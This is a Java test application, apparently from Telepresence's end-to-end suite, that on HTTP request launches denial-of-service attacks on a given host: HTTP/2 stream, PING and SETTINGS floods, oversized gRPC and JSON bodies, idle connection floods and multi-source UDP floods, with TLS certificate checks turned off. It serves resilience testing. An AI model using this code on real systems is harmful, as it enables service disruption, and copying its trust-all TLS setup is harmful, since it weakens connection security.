package io.telepresence.e2e.apps;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.StandardProtocolFamily;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.cert.X509Certificate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Executors;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.locks.LockSupport;
import javax.net.ssl.SSLContext;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/**
 * A pod that means harm: {@code GET /KIND?host=…&port=…&…} makes it attack for {@code seconds}, and says afterwards what it
 * could do. It attacks what it is told, with at most {@code count} connections or streams at a time.
 */
public final class AttackerApp {
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int HEADERS = 1;
    private static final int SETTINGS = 4;
    private static final int PING = 6;

    /** Below the kernel's own choice of ports. */
    private static final int FIRST_SOURCE = 20_000;

    private static final long PASS_NANOS = 800_000_000;

    private final Map<String, String> options;
    private final String host;
    private final int port;
    private final int count;
    private final long end;
    private final AtomicInteger begun = new AtomicInteger();
    private final AtomicInteger refused = new AtomicInteger();

    private AttackerApp(Map<String, String> options) {
        this.options = options;
        this.host = options.get("host");
        this.port = Integer.parseInt(options.get("port"));
        this.count = Integer.parseInt(options.getOrDefault("count", "4"));
        this.end = System.nanoTime() + Long.parseLong(options.getOrDefault("seconds", "5")) * 1_000_000_000L;
    }

    public static void main(String[] arguments) throws IOException {
        HttpServer server = HttpServer.create(new InetSocketAddress(Integer.parseInt(arguments[0])), 0);
        server.setExecutor(Executors.newVirtualThreadPerTaskExecutor());
        server.createContext("/", AttackerApp::serve);
        server.start();
    }

    private static void serve(HttpExchange exchange) throws IOException {
        Map<String, String> options = new HashMap<>();
        for (String option : exchange.getRequestURI().getQuery().split("&")) {
            options.put(option.replaceFirst("=.*", ""), option.replaceFirst("[^=]*=", ""));
        }
        byte[] answer;
        try {
            AttackerApp attack = new AttackerApp(options);
            attack.run(exchange.getRequestURI().getPath().substring(1));
            answer =
                    ("begun " + attack.begun + " refused " + attack.refused + "\n").getBytes(StandardCharsets.US_ASCII);
        } catch (Exception e) {
            answer = ("failed " + e + "\n").getBytes(StandardCharsets.UTF_8);
        }
        exchange.sendResponseHeaders(200, answer.length);
        exchange.getResponseBody().write(answer);
        exchange.close();
    }

    private interface Deed {
        void run() throws Exception;
    }

    private void run(String kind) throws Exception {
        switch (kind) {
            case "bodies" -> inParallel(this::body);
            case "messages" -> inParallel(this::message);
            case "silent" -> silent();
            case "streams" -> inParallel(this::streams);
            case "mute" -> inParallel(this::mute);
            case "sources" -> sources();
            default -> throw new IllegalArgumentException(kind);
        }
    }

    private boolean goesOn() {
        return System.nanoTime() - end < 0;
    }

    private void inParallel(Deed deed) throws InterruptedException {
        List<Thread> threads = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            threads.add(Thread.ofVirtual().start(() -> {
                while (goesOn()) {
                    try {
                        begun.incrementAndGet();
                        deed.run();
                    } catch (Exception e) {
                        refused.incrementAndGet();
                    }
                }
            }));
        }
        for (Thread thread : threads) {
            thread.join();
        }
    }

    private Socket tcp() throws IOException {
        Socket socket = new Socket();
        socket.connect(new InetSocketAddress(host, port), 2_000);
        socket.setSoTimeout(2_000);
        return socket;
    }

    /** Small objects without end, as an admission review or not. */
    private void body() throws Exception {
        int size = Integer.parseInt(options.get("bytes"));
        byte[] body = new byte[size];
        byte[] begin = "{\"request\":{\"uid\":\"u\",\"object\":{\"a\":[".getBytes(StandardCharsets.US_ASCII);
        for (int i = 0; i < size; i++) {
            body[i] = (byte) (i < begin.length ? begin[i] : "{},".charAt(i % 3));
        }
        try (Socket socket = trustingAll().getSocketFactory().createSocket(tcp(), host, port, true)) {
            OutputStream out = socket.getOutputStream();
            out.write(("POST " + options.get("path") + " HTTP/1.1\r\nHost: x\r\nContent-Length: " + size + "\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            out.write(body);
            out.flush();
            socket.getInputStream().read();
        }
    }

    private static SSLContext trustingAll() throws GeneralSecurityException {
        SSLContext context = SSLContext.getInstance("TLS");
        X509TrustManager all = new X509TrustManager() {
            @Override
            public void checkClientTrusted(X509Certificate[] chain, String type) {}

            @Override
            public void checkServerTrusted(X509Certificate[] chain, String type) {}

            @Override
            public X509Certificate[] getAcceptedIssuers() {
                return new X509Certificate[0];
            }
        };
        context.init(null, new TrustManager[] {all}, null);
        return context;
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        ByteBuffer frame = ByteBuffer.allocate(9 + payload.length);
        frame.putShort((short) (payload.length >> 8)).put((byte) payload.length);
        frame.put((byte) type).put((byte) flags).putInt(stream).put(payload);
        return frame.array();
    }

    private byte[] head() {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        String path = options.getOrDefault("path", "/telepresence.manager.AgentGate/ArriveAsAgent");
        for (String[] field : new String[][] {
            {":method", "POST"},
            {":scheme", "http"},
            {":path", path},
            {":authority", "x"},
            {"content-type", "application/grpc"},
            {"te", "trailers"},
            {"x-user", "me"}
        }) {
            block.write(0);
            for (String text : field) {
                block.write(text.length());
                block.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
            }
        }
        return block.toByteArray();
    }

    private Socket http2() throws IOException {
        Socket socket = tcp();
        socket.getOutputStream().write(PREFACE);
        socket.getOutputStream().write(frame(SETTINGS, 0, 0, new byte[0]));
        return socket;
    }

    /** One message of 16 MiB that consists of empty parts. */
    private void message() throws IOException {
        try (Socket socket = http2()) {
            OutputStream out = socket.getOutputStream();
            out.write(frame(HEADERS, 4, 1, head()));
            byte[] chunk = new byte[16 << 10];
            for (int i = 0; i < chunk.length; i += 2) {
                chunk[i] = 0x42; // field 8, a nested message of no length
            }
            byte[] first = chunk.clone();
            ByteBuffer.wrap(first).put((byte) 0).putInt(16 << 20);
            out.write(frame(0, 0, 1, first));
            for (int i = 1; i <= 1024 && goesOn(); i++) {
                out.write(frame(0, 0, 1, chunk));
            }
        }
    }

    /** Many connections that say nothing. */
    private void silent() throws InterruptedException {
        List<Socket> open = new ArrayList<>();
        while (goesOn()) {
            try {
                if (open.size() < count) {
                    begun.incrementAndGet();
                    open.add(tcp());
                } else {
                    LockSupport.parkNanos(50_000_000);
                }
            } catch (IOException e) {
                refused.incrementAndGet();
            }
        }
        open.forEach(AttackerApp::close);
    }

    /** Datagrams of so many sources, each of which speaks more than once a second; evenly, as buffers are short. */
    private void sources() throws Exception {
        List<DatagramChannel> sources = new ArrayList<>();
        try {
            for (int i = 0; i < count; i++) {
                DatagramChannel source = DatagramChannel.open(StandardProtocolFamily.INET);
                sources.add(source);
                // Answers are not read, and must not fill this machine's memory.
                source.setOption(StandardSocketOptions.SO_RCVBUF, 1);
                source.bind(new InetSocketAddress(FIRST_SOURCE + i)).configureBlocking(false);
                begun.incrementAndGet();
            }
            InetSocketAddress target = new InetSocketAddress(host, port);
            long first = System.nanoTime();
            for (long sent = 0; goesOn(); sent++) {
                DatagramChannel source = sources.get((int) (sent % count));
                if (source.send(ByteBuffer.wrap(new byte[] {'x', '\n'}), target) == 0) {
                    refused.incrementAndGet();
                }
                if (sent % 64 == 0) {
                    LockSupport.parkNanos(first + sent * PASS_NANOS / count - System.nanoTime());
                }
            }
        } finally {
            for (DatagramChannel source : sources) {
                source.close();
            }
        }
    }

    /** Calls that begin and never go on, on one connection, with nothing acknowledged. */
    private void streams() throws Exception {
        int streams = Integer.parseInt(options.get("streams"));
        try (Socket socket = http2()) {
            byte[] head = head();
            for (int i = 0; i < streams && goesOn(); i++) {
                socket.getOutputStream().write(frame(HEADERS, 4, 2 * i + 1, head));
            }
            read(socket);
        }
    }

    private void read(Socket socket) throws IOException {
        InputStream in = socket.getInputStream();
        byte[] buffer = new byte[64 << 10];
        while (goesOn() && in.read(buffer) >= 0) {
            Thread.onSpinWait();
        }
    }

    /** Asks for answers without end, and reads none. */
    private void mute() throws IOException {
        try (Socket socket = http2()) {
            while (goesOn()) {
                byte[] ping = ByteBuffer.allocate(8)
                        .putLong(ThreadLocalRandom.current().nextLong())
                        .array();
                socket.getOutputStream().write(frame(PING, 0, 0, ping));
                socket.getOutputStream().write(frame(SETTINGS, 0, 0, new byte[0]));
            }
        }
    }

    private static void close(Socket socket) {
        try {
            socket.close();
        } catch (IOException e) {
            // It is gone either way.
        }
    }
}
